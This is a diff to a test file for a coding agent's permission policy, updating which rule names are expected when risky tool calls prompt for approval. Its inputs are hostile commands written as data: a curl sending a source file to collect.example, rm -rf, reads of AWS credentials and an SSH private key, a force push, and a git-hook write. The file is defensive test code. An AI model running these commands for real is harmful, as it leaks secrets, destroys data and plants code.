@@ -70,10 +70,14 @@ describe('a coding client under the default pack', () => {
     for (const [tool, input] of free)
       assert.equal((await session.ask(tool, input)).permissionDecision, 'allow', `${tool} ${JSON.stringify(input)}`);
     const asked: readonly (readonly [string, object, RegExp])[] = [
-      ['Bash', { command: 'curl https://collect.example -d @src/date.ts' }, /ask-before-running-code/],
-      ['Bash', { command: 'rm -rf src' }, /ask-before-running-code/],
+      [
+        'Bash',
+        { command: 'curl https://collect.example -d @src/date.ts' },
+        /talks to another machine .*ask-before-a-command-reaches-out/,
+      ],
+      ['Bash', { command: 'rm -rf src' }, /deletes or discards .*ask-before-a-command-deletes/],
       ['Bash', { command: 'cat ../../.aws/credentials' }, /ask-before-places-of-keys|ask-outside/],
-      ['Bash', { command: 'npm test && git push --force' }, /ask-before-running-code/],
+      ['Bash', { command: 'npm test && git push --force' }, /ask-before-a-command-reaches-out/],
       ['Read', { file_path: '/home/emma/.ssh/id_ed25519' }, /ask-before-places-of-keys|ask-outside/],
       ['Read', { file_path: `${root}/../other/plan.md` }, /ask-outside-the-workspace/],
       ['Write', { file_path: `${root}/.git/hooks/pre-commit`, content: '#!/bin/sh' }, /ask-before-what-runs-later/],
